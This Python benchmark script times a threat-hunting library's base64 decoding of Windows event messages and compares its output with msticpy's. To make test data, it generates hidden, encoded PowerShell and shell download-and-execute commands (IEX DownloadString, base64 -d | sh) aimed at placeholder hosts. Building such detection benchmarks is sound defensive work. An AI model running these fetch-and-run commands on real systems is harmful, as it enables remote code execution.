"""Decoding on one core: plain messages, real launchers, launchers all different, beside msticpy.

The input is every distinct message of the Windows events in the shared data. Plain ones hold none
of the words that announce base64, so every layer found in them would be false: they are counted.
The peer gets a sample of the encoded rows; each text that it decodes must be among ours.
"""

import base64
import json
import random
import re
import subprocess
import tempfile
from pathlib import Path

import polars as pl

from bench._measure import measure, table
from bench.iocs import PEER, messages, peer

SAMPLE = 300
_ENCODED = r"(?i)-enc\s|base64"
_LAUNCHER = re.compile(r"-enc\s+([A-Za-z0-9+/=]{100,})")

HUNTKIT = """
import sys, time, json, os
os.environ["POLARS_MAX_THREADS"] = "1"
import polars as pl
from huntkit.extract import decode
frame = pl.read_parquet(sys.argv[1])
decode("powershell -enc ZABpAHIA")
started = time.process_time()
found = decode(frame, "text", include_input=False)
seconds = time.process_time() - started
said = sorted(set(found["Decoded"])) if len(sys.argv) > 2 else []
print(json.dumps({"seconds": seconds, "rows": found.height, "said": said,
                  "stopped": found.filter(pl.col("limit") != "").height}))
"""
MSTICPY = """
import sys, time, json, warnings, logging
warnings.simplefilter("ignore"); logging.disable(logging.CRITICAL)
import pandas as pd
from msticpy.transform.base64unpack import unpack_df
frame = pd.read_json(sys.argv[1])
unpack_df(frame.head(1), "text", utf16=True)
started = time.process_time()
found = unpack_df(frame, "text", utf16=True)
seconds = time.process_time() - started
texts = found[found["encoding_type"].astype(str).str.startswith("utf")]["decoded_string"]
print(json.dumps({"seconds": seconds, "rows": len(found), "said": sorted(set(texts))}))
"""


def run(data: Path) -> None:
    """Print speed, false layers and comparison."""
    frame = pl.DataFrame({"text": messages(data)})
    encoded = frame["text"].str.contains(_ENCODED)
    real = frame.filter(encoded)
    kinds = {
        "plain": frame.filter(~encoded),
        "encoded, real": real,
        "encoded, short, all different": pl.DataFrame({"text": launchers(5_000)}),
        "encoded, long, all different": pl.DataFrame({"text": renewed(real["text"], 1_000)}),
    }
    with tempfile.TemporaryDirectory(prefix="huntkit-bench-") as folder:
        rows = [("rows", "distinct", "MB", "seconds (CPU)", "MB/s per core", "rows/s", "layers")]
        for name, part in kinds.items():
            path = Path(folder, "rows.parquet")
            part.write_parquet(path)
            figure = measure(HUNTKIT, str(path), times=5)
            size = part["text"].str.len_bytes().sum() / 1e6
            rows.append(
                (
                    name,
                    f"{part.height:,}",
                    f"{size:.1f}",
                    f"{figure.seconds:.2f}",
                    f"{size / figure.seconds:.0f}",
                    f"{part.height / figure.seconds:,.0f}",
                    f"{figure.answer['rows']:,}",
                )
            )
        table(rows)
        print("  every layer in plain rows is a false one (mark: 25 MB/s on them)")
        for name in list(kinds)[1:]:
            compare(name, kinds[name], Path(folder))


def compare(name: str, rows: pl.DataFrame, folder: Path) -> None:
    """Both on the same rows."""
    python = peer()
    if python is None:
        print(f"  {PEER} can't be installed: no comparison")
        return
    sample = rows[sorted(random.Random(4).sample(range(rows.height), min(SAMPLE, rows.height)))]
    sample.write_parquet(folder / "sample.parquet")
    given = folder / "sample.json"
    given.write_text(json.dumps(sample.to_dicts()), "utf-8")
    # Our own figure is of all rows: a sample takes less time than a clock can tell.
    rows.write_parquet(folder / "rows.parquet")
    ours = measure(HUNTKIT, str(folder / "rows.parquet"), times=5)
    said = set(measure(HUNTKIT, str(folder / "sample.parquet"), "said").answer["said"])
    command = [python, "-c", MSTICPY, str(given)]
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd=folder)
    theirs = json.loads(done.stdout.strip().splitlines()[-1])
    fast, slow = rows.height / ours.seconds, sample.height / theirs["seconds"]
    missing = [text for text in theirs["said"] if text.rstrip("\0") not in said]
    print(
        f"  {name}: huntkit {fast:,.0f} rows/s, {PEER} {slow:,.0f} rows/s:"
        f" {fast / slow:.1f} times (mark: 20)"
    )
    print(
        f"    of {len(theirs['said'])} texts that it decodes, ours lack {len(missing)};"
        f" ours are {len(said)}"
    )


def launchers(count: int) -> list[str]:
    """Short commands, each with its own script, in PowerShell's way and in the shell's."""
    chance = random.Random(1)
    made = []
    for number in range(count):
        name = "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=8))
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{name}.example/a{number}')"
        if number % 2:
            run = base64.b64encode(script.encode("utf-16-le")).decode()
            made.append(rf"C:\Windows\System32\powershell.exe -NoP -W Hidden -enc {run}")
        else:
            run = base64.b64encode(script.encode()).decode()
            made.append(f"/bin/sh -c echo {run} | base64 -d | sh")
    return made


def renewed(texts: pl.Series, count: int) -> list[str]:
    """Real messages whose launchers each got a comment of their own, so that none repeats."""
    made = []
    for number, text in enumerate(texts):
        found = _LAUNCHER.search(text)
        if found is None or len(made) == count:
            continue
        script = base64.b64decode(found[1] + "===").decode("utf-16-le", "ignore") + f" # {number}"
        run = base64.b64encode(script.encode("utf-16-le")).decode()
        made.append(text.replace(found[1], run))
    return made
